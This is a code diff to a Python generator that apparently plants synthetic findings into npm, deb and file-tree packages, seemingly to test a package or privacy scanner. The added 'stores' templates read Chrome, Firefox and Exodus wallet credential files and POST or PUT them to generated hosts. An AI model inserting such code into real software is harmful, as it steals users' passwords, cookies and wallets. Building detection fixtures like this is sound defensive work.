@@ -60,16 +60,19 @@ def telemetry_endpoint(r, host):
         )))
 
 
-@plants("data-care.telemetry-sdk", "npm", "deb")
+@plants("data-care.telemetry-sdk", "npm", "tree")
 def sdk(r, host):
+    """In a package it is among what the package needs: what it only could use is none of its own doing."""
     if host.kind == "npm":
-        host.add_code(r.choice((
-            f"const Sentry = require('@sentry/node');\nSentry.init({{ dsn: 'https://{r.letters(32, '0123456789abcdef')}@o{r.randint(1, 99999)}.ingest.sentry.io/{r.randint(1, 10 ** 7)}' }});",
-            f"const {{ PostHog }} = require('posthog-node');\nconst client = new PostHog('phc_{r.letters(43)}');",
-            f"const Mixpanel = require('mixpanel');\nconst mp = Mixpanel.init('{r.letters(32, '0123456789abcdef')}');\nmp.track('started');",
-            f"const {{ Analytics }} = require('@segment/analytics-node');\nconst a = new Analytics({{ writeKey: '{r.letters(32)}' }});",
-            f"const amplitude = require('@amplitude/node');\namplitude.init('{r.letters(32, '0123456789abcdef')}');",
-        )))
+        name, code = r.choice((
+            ("@sentry/node", f"const Sentry = require('@sentry/node');\nSentry.init({{ dsn: 'https://{r.letters(32, '0123456789abcdef')}@o{r.randint(1, 99999)}.ingest.sentry.io/{r.randint(1, 10 ** 7)}' }});"),
+            ("posthog-node", f"const {{ PostHog }} = require('posthog-node');\nconst client = new PostHog('phc_{r.letters(43)}');"),
+            ("mixpanel", f"const Mixpanel = require('mixpanel');\nconst mp = Mixpanel.init('{r.letters(32, '0123456789abcdef')}');\nmp.track('started');"),
+            ("@segment/analytics-node", f"const {{ Analytics }} = require('@segment/analytics-node');\nconst a = new Analytics({{ writeKey: '{r.letters(32)}' }});"),
+            ("@amplitude/node", f"const amplitude = require('@amplitude/node');\namplitude.init('{r.letters(32, '0123456789abcdef')}');"),
+        ))
+        host.add_code(code)
+        host.manifest(lambda m: m.setdefault("dependencies", {}).update({name: "^4.0.0"}))
     else:
         host.put(python_dir(host) + module(r), r.choice((
             f"import sentry_sdk\nsentry_sdk.init('https://{r.letters(32, '0123456789abcdef')}@o1.ingest.sentry.io/5')\n",
@@ -209,14 +212,17 @@ def location(r, host):
 def stores(r, host):
     path = r.choice((".config/google-chrome/Default/Login Data", ".config/google-chrome/Default/Cookies", "AppData/Local/Google/Chrome/User Data/Default/Login Data",
                      ".mozilla/firefox/x.default/logins.json", ".mozilla/firefox/x.default/key4.db", "AppData/Roaming/Exodus/exodus.wallet"))
+    url = f"https://{r.host()}/{r.word()}"
     if host.kind == "npm":
         host.add_code(r.choice((
-            f"const fs = require('fs');\nconst d = fs.readFileSync(require('os').homedir() + '/{path}');",
-            f"const path = require('path');\nconst p = path.join(require('os').homedir(), {', '.join(r.quote(x) for x in path.split('/'))});\nrequire('fs').copyFileSync(p, '/tmp/x');",
+            f"const fs = require('fs');\nconst d = fs.readFileSync(require('os').homedir() + '/{path}');\nfetch({r.quote(url)}, {{ method: 'POST', body: d }});",
+            f"const path = require('path');\nconst p = path.join(require('os').homedir(), {', '.join(r.quote(x) for x in path.split('/'))});\n"
+            f"require('fs').copyFileSync(p, '/tmp/x');\nrequire('https').request({r.quote(url)}, {{ method: 'PUT' }}).end(require('fs').readFileSync('/tmp/x'));",
         )))
     else:
         host.put(python_dir(host) + module(r), r.choice((
-            f"import os, shutil\nshutil.copy(os.path.expanduser('~/{path}'), '/tmp/x')\n", f"import pathlib\ndata = (pathlib.Path.home() / {r.quote(path)}).read_bytes()\n",
+            f"import os, requests\nrequests.post({r.quote(url)}, data=open(os.path.expanduser('~/{path}'), 'rb'))\n",
+            f"import pathlib, urllib.request\ndata = (pathlib.Path.home() / {r.quote(path)}).read_bytes()\nurllib.request.urlopen({r.quote(url)}, data)\n",
         )))
 
 
@@ -254,10 +260,11 @@ def old_tls(r, host):
 @plants("data-care.plaintext-secret", "deb", "tree")
 def plaintext(r, host):
     word = r.letters(14)
+    app = [("shared_prefs/{}.xml", f"<?xml version='1.0' encoding='utf-8'?>\n<map><string name=\"password\">{word}</string></map>\n")] if host.kind == "tree" else []
     path, text = r.choice((
         ("etc/{}.ini", f"[database]\nuser = app\npassword = {word}\n"), ("etc/{}.conf", f"smtp_password={word}\n"), ("etc/{}.json", f'{{"db": {{"password": "{word}"}}}}\n'),
         ("etc/{}.yml", f"mysql:\n  user: app\n  password: {word}\n"),
-        ("shared_prefs/{}.xml", f"<?xml version='1.0' encoding='utf-8'?>\n<map><string name=\"password\">{word}</string></map>\n"),
+        *app,
     ))
     host.put(path.format(r.name()), text, 0o640)
 
